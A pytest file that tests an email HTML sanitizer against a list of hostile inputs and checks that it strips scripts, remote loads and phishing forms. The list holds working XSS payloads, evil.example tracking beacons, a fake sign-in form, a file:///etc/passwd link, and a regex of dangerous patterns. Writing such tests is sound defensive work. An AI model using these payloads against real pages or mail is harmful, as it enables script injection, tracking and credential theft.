"""Hostile mail HTML: what is shown runs nothing, loads nothing and asks for nothing."""

from __future__ import annotations

import re

import pytest

from adapters.mime.cleaner import BLOCKED, Nh3Cleaner

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='https://evil.example/a 1x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img lowsrc=https://evil.example/x dynsrc=https://evil.example/y>",
    "<picture><source srcset=https://evil.example/a><img src=https://evil.example/b></picture>",
    "<body onload=alert(1)>",
    "<body background=https://evil.example/x>",
    "<table background=https://evil.example/x><tr><td background=https://evil.example/y>t</table>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='  JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6a;avascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href=https://x.example ping=https://evil.example/p>x</a>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x>",
    "<applet code=x></applet>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<input type=image src=https://evil.example/x>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select onchange=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>p{background:url(https://evil.example/x)}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style='background-image:u\\72l(https://evil.example/x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<p style='-moz-binding:url(x.xml#a)'>x</p>",
    "<p style='color:red;/**/background:ur/**/l(https://evil.example)'>x</p>",
    "<p style='position:fixed;top:0;left:0;z-index:9999'>x</p>",
    "<p style='list-style:url(https://evil.example/x)'>x</p>",
    "<p style='content:image-set(\"https://evil.example/x\" 1x)'>x</p>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><image href=https://evil.example/x /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<video src=https://evil.example/v poster=https://evil.example/p></video>",
    "<audio src=https://evil.example/a autoplay></audio>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<p id=x name=y class=z onclick=alert(1)>x</p>",
    "<img/src=x/onerror=alert(1)>",
    "<a href=https://x.example onmouseover\x0b=alert(1)>x</a>",
    "<\x00script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<bgsound src=https://evil.example/x>",
    "<map><area href=javascript:alert(1)></map>",
    "<dialog open>x</dialog>",
]
_MARKUP = re.compile(r"<[^>]*>")
_DANGER = re.compile(
    r"<(?:script|iframe|object|embed|applet|form|input|button|select|textarea|meta|base|link|style|svg|math|video|audio"
    r"|template|noscript|source|area|dialog)\b|\son\w+\s*=|javascript:|vbscript:|evil\.example|expression|url\(|position"
    r"|data:text|svg\+xml|srcdoc|ping=|\b(?:id|class)=",
    re.IGNORECASE,
)


def _words(html: str) -> list[str]:
    """The markup without the order of attributes."""
    return sorted(html.replace("<", " <").replace(">", " > ").split())


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_dangerous_is_left_in_the_markup(html: str) -> None:
    cleaned = Nh3Cleaner().clean(f"<p>before</p>{html}<p>after</p>")
    assert "before" in cleaned
    assert [tag for tag in _MARKUP.findall(cleaned) if _DANGER.search(tag)] == []


@pytest.mark.parametrize("html", HOSTILE)
def test_cleaning_twice_changes_nothing_more(html: str) -> None:
    once = Nh3Cleaner().clean(html)
    assert _words(Nh3Cleaner().clean(once)) == _words(once)


def test_a_remote_picture_keeps_its_words_and_is_marked() -> None:
    cleaned = Nh3Cleaner().clean('<img src="https://x.example/a.png" alt="Our logo" width="10">')
    assert f'src="{BLOCKED}"' in cleaned
    assert 'alt="Our logo"' in cleaned


def test_a_picture_that_the_mail_carries_is_shown() -> None:
    picture = '<img src="data:image/png;base64,iVBORw0KGgo=">'
    assert Nh3Cleaner().clean(picture) == picture


def test_a_link_opens_apart_and_tells_nobody() -> None:
    cleaned = Nh3Cleaner().clean('<a href="https://x.example/a?b=1" target="_top">x</a>')
    assert 'href="https://x.example/a?b=1"' in cleaned
    assert 'rel="noopener noreferrer nofollow"' in cleaned
    assert 'target="_blank"' in cleaned


def test_harmless_styles_stay() -> None:
    assert "color:red" in Nh3Cleaner().clean("<p style='color:red; background:url(x)'>x</p>").replace(" ", "")


@pytest.mark.parametrize("html", ["<div>" * 100_000 + "x", "<a " + " ".join(f"a{n}=1" for n in range(50_000)) + ">x"])
def test_html_made_to_keep_a_parser_busy_is_shown_as_words(html: str) -> None:
    assert Nh3Cleaner().clean(html).strip(" &#32;") == "x"
